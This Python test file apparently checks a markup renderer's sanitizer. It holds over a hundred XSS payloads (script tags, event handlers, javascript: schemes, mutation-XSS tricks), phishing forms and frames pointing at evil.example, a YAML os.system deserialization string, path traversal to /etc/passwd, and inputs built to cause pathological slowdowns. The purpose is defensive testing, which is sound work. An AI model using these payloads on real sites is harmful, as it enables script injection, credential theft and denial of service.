"""Whatever a file holds, what is shown can do nothing, and comes in bounded time."""

from __future__ import annotations

import time

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.markup.reading import read
from portal.markup.rendering import render
from portal.markup.sanitizing import BLOCKS, INLINE, MOST_PICTURE_DATA, PICTURE_DATA
from portal.markup.source import Kind, NotAnArticle, Unreadable
from tests.effort import calls_of, coming_to_an_end
from tests.markup.rendering.shown import rendered

SAFE_SCHEMES = ("http:", "https:", "mailto:")
ATTRIBUTES = frozenset(
    [
        "alt",
        "aria-label",
        "class",
        "colspan",
        "data-added",
        "data-article",
        "data-blade",
        "data-language",
        "data-media",
        "data-part",
        "data-tab",
        "data-token",
        "data-unit",
        "data-zone",
        "datetime",
        "dir",
        "height",
        "hidden",
        "href",
        "id",
        "lang",
        "loading",
        "media",
        "referrerpolicy",
        "rel",
        "reversed",
        "role",
        "rowspan",
        "scope",
        "span",
        "srcset",
        "src",
        "start",
        "tabindex",
        "title",
        "type",
        "value",
        "width",
    ]
)

BODIES = [
    # script, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "> <script>alert(1)</script>",
    "* <script>alert(1)</script>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "# <script>alert(1)</script>",
    "<!--$x--><script>alert(1)</script><!--/$x-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<p onclick='alert(1)'>a</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<a href=\"https://example.com/\" onmouseover=\"alert(1)\">a</a>",
    "<b onfocus=alert(1) tabindex=0 autofocus>a</b>",
    "<insight onclick=alert(1)><symptomId onclick=alert(1)>x</symptomId></insight>",
    "![x](x\"onerror=\"alert(1))",
    "![x\"onerror=\"alert(1)](x)",
    "```\"onload=\"alert(1)\nx\n```",
    # schemes
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](livescript:alert(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\x)",
    "[x](blob:https://example.com/1)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<a href='java&#10;script:alert(1)'>a</a>",
    "<a href='&#x09;javascript:alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href=javascript:alert(1)//https://example.com/>a</a>",
    "[x](data-blade:javascript:alert(1))",
    "[x](button-link:javascript:alert(1))",
    "[x](data-blade:\"><script>alert(1)</script>)",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](javascript:alert(1))",
    "<video><src>javascript:alert(1)</src><title>x</title></video>",
    "> [!VIDEO javascript:alert(1)]",
    ":::image type=\"content\" source=\"javascript:alert(1)\" alt-text=\"x\":::",
    ":::image type=\"content\" source=\"x\" alt-text=\"](x)<script>alert(1)</script>\":::",
    "# [x\"onload=\"alert(1)](#tab/x\"onload=\"alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    # frames, forms, and what changes the page around
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select><option>x</select><textarea>x</textarea><label for=x>x</label>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee><applet code=x>",
    "<portal src=https://evil.example/></portal><dialog open>x</dialog>",
    "</div></main></body><h1>Mine now</h1>",
    # style
    "<style>*{display:none}</style>",
    "<p style='background:url(javascript:alert(1))'>a</p>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<style><!--</style><script>alert(1)//--></style>",
    "<p class='alert alert-warning' id='main'>a</p>",
    # foreign elements and parsers that disagree
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><a href=javascript:alert(1)><tr><td>x</table>",
    "<a href=https://a.example><a href=javascript:alert(1)>x</a></a>",
    "<p title='</p><script>alert(1)</script>'>a</p>",
    "<a title=\"<!--$x-->\" href=\"https://example.com/\">a<!--/$x--></a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)</script>",
    "<a href=\"https://example.com/&quot;onclick=alert(1)//\">a</a>",
    "[x](https://example.com/\"onclick=\"alert\\(1\\))",
    "[x](https://example.com 'title\" onclick=\"alert(1)')",
    "\ue000x\" onclick=\"alert(1)\ue001a\ue002",
    "\x02\x03klzzwxh:0001\x03 amp\x02",
    "\ufeff\u202e<script>\u202calert(1)</script>",
    "<!--portal-0000:row --><script>alert(1)</script><!--portal-0000:/row -->",
]  # fmt: skip

HEAVY = {
    "quotes": lambda n: "> " * n + "x",
    "lists": lambda n: "".join("  " * depth + "* x\n" for depth in range(min(n, 1500))),
    "list markers on a line": lambda n: "* " * n + "x",
    "divs": lambda n: "<div>" * n + "x",
    "bold": lambda n: "<b>" * n + "x",
    "spans around a table": lambda n: "<table><tr><td>" * (n // 5) + "x",
    "asterisks": lambda n: "*a " * n,
    "asterisks without blanks": lambda n: "*" * n + "a" + "*" * n,
    "underscores": lambda n: "_a_b " * n,
    "brackets": lambda n: "[" * n,
    "pictures": lambda n: "![" * n,
    "links in links": lambda n: "[" * n + "a" + "](b)" * n,
    "parentheses": lambda n: "[a](" + "(" * n,
    "ticks": lambda n: "".join("`" * (1 + index % 90) + "a" for index in range(n // 4)),
    "angles": lambda n: "<" * n,
    "open tags": lambda n: "<a href='" * n,
    "comments": lambda n: "<!--" * n,
    "token marks": lambda n: "x <!--$a-->" * n,
    "section marks": lambda n: "<!--issueDescription-->\n\n" * n,
    "entities": lambda n: "&amp;" * n,
    "references": lambda n: "".join(f"[{index}]: /x\n" for index in range(n // 2)) + "[1] " * n,
    "a long line": lambda n: "word " * (20 * n),
    "a long word": lambda n: "x" * (100 * n),
    "blanks": lambda n: "a" + " " * (20 * n) + "b",
    "a wide table": lambda n: "|" + "a|" * (n // 2) + "\n|" + "-|" * (n // 2) + "\n|" + "b|" * (n // 2),
    "a long table": lambda n: "|a|b|\n|-|-|\n" + "|1|2|\n" * n,
    "empty links": lambda n: "[](https://example.com/) " * (n // 4),
    "headings": lambda n: "## same\n\n" * (n // 4),
    "directives": lambda n: ":::row:::\n" * n,
    "images": lambda n: ':::image type="' * n,
    "addresses": lambda n: "https://example.com/a " * (n // 4),
    "mail": lambda n: "a@" * n + "example.com",
    "hard breaks": lambda n: "a\\\n" * n,
    "fences": lambda n: "```\n" * n,
    "alerts": lambda n: "> [!NOTE]\n> x\n\n" * (n // 4),
}

FILES = [
    b"",
    b"\x00" * 1000,
    b"\xff\xfe" + "<properties />".encode("utf-16-le"),
    b"<properties " + b'a="b" ' * 5000 + b"/>\n# x",
    b'<properties pageTitle="<script>alert(1)</script>" selfHelpType=\'generic\' cloudEnvironments="public" />\n# x',
    b'<properties pageTitle="' + b"a" * 1_000_000 + b"\n# x",
    b"---\ntitle: !!python/object/apply:os.system ['true']\n---\n# x",
    b"---\na: &a [x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\nd: [*c,*c,*c,*c]\ntitle: x\n---\n# x",
    b"---\n" + b"a: " + b"[" * 2000 + b"\n---\n# x",
    b'---\ntitle: "<img src=x onerror=alert(1)>"\nms.contentlocale: "../../etc"\n---\n# x',
]


def assert_harmless(html: str) -> None:
    """Nothing in it acts: known elements, known attributes, known schemes, when read by another parser than ours."""
    tree = lxml.html.fragment_fromstring(html or "<p></p>", create_parent="div")
    for element in tree.iter():
        assert isinstance(element.tag, str), f"a comment or instruction came through: {element!r}"
        assert element.tag in INLINE | BLOCKS, f"<{element.tag}> came through"
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, f"{name} came through on <{element.tag}>"
            if name in ("href", "src", "srcset"):
                assert_safe_address(value)


def assert_safe_address(value: str) -> None:
    scheme, colon, _ = value.partition(":")
    if not colon or "/" in scheme or scheme.startswith("#"):
        assert not value.startswith("//")
        return
    if scheme == "data":
        assert PICTURE_DATA.match(value)
        assert len(value) <= MOST_PICTURE_DATA
        return
    assert f"{scheme.lower()}:" in SAFE_SCHEMES, f"{value!r} came through"


def sides(body: str) -> list[str]:
    """The body in every dialect, as stored."""
    kinds = {"selfhelp": Kind.GENERIC, "alchemy": Kind.ALCHEMY, "learn": Kind.LEARN, "native": Kind.NATIVE}
    return [rendered(body, dialect=dialect, kind=kind).html for dialect, kind in kinds.items()]


def test_there_are_at_least_sixty_attacks():
    assert len(set(BODIES)) >= 60


@pytest.mark.parametrize("body", BODIES)
def test_it_renders_an_attack_harmless(body):
    for html in sides(body):
        assert_harmless(html)


@pytest.mark.parametrize("body", BODIES)
def test_it_renders_an_attack_harmless_between_other_words(body):
    assert_harmless(rendered(f"Before {body} after.\n\n1. {body}\n\n> {body}\n\n## {body}").html)


@pytest.mark.parametrize("name", HEAVY)
def test_it_comes_to_an_end(name):
    with coming_to_an_end():
        html = rendered(HEAVY[name](10_000)).html
    assert "<script" not in html


@pytest.mark.parametrize("name", HEAVY)
def test_its_work_grows_in_proportion(name):
    rendered("warm up")
    small, large = (calls_of(rendered, HEAVY[name](size)) for size in (500, 4_000))
    assert large < 9 * small, f"8 times the text took {large / small:.1f} times the work"


@pytest.mark.soak
@pytest.mark.parametrize("name", HEAVY)
def test_what_is_never_called_grows_in_proportion_too(name):
    """Copies and searches written in C are no calls: here the least processor time of three tells, on a quiet machine."""
    rendered("warm up")
    small, large = (min(_seconds(HEAVY[name](size)) for _ in range(3)) for size in (4_000, 32_000))
    assert large < 24 * max(small, 0.02), f"8 times the text took {large / small:.0f} times as long"


def _seconds(body: str) -> float:
    started = time.process_time()
    rendered(body)
    return time.process_time() - started


@pytest.mark.parametrize("number", range(len(FILES)))
@pytest.mark.parametrize("path", ["a/b.md", "sv-SE/x.md", "../../etc/passwd", "\x00.md"])
def test_it_survives_a_hostile_file(number, path):
    with coming_to_an_end():
        try:
            source = read(FILES[number], path)
        except (NotAnArticle, Unreadable):
            return
        one = render(source, path=path)
    assert_harmless(one.html)
    assert "<script" not in one.title_html


PIECES = st.sampled_from(
    ["<", ">", '"', "'", "=", "/", "&", ";", "#", "[", "]", "(", ")", "!", "`", "*", "_", "\n", "\n\n", " ", "    ", "> ", "- ", "1. ",
     "|", ":::", "script", "javascript:", "a", "img", "src", "onerror", "href", "svg", "style", "title", "<!--", "-->", "$x", "/$x",
     "data-blade:A.B", "<b>", "</b>", "<table>", "<td>", "<a name=x>", "</a>", "<pre>", "</p>", "\ue000", "\ue001", "\ue002", "\x00"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_it_renders_whatever_is_thrown_together_harmless(body):
    one = rendered(body, dialect="learn", kind=Kind.LEARN)
    assert_harmless(one.html)
    assert not {"construct-failed", "not-rendered"} & {problem.code for problem in one.problems}


def test_it_shows_text_that_is_too_long_as_it_is():
    one = rendered("<b>x</b>" * 300_000)
    assert one.html.startswith('<div class="code"><pre tabindex="0">&lt;b&gt;x')
    assert [problem.code for problem in one.problems] == ["too-long"]


def test_it_shows_text_that_is_nested_too_deep_as_it_is():
    one = rendered("<div>\n" * 20_000)
    assert [problem.code for problem in one.problems] == ["too-deep"]
    assert_harmless(one.html)
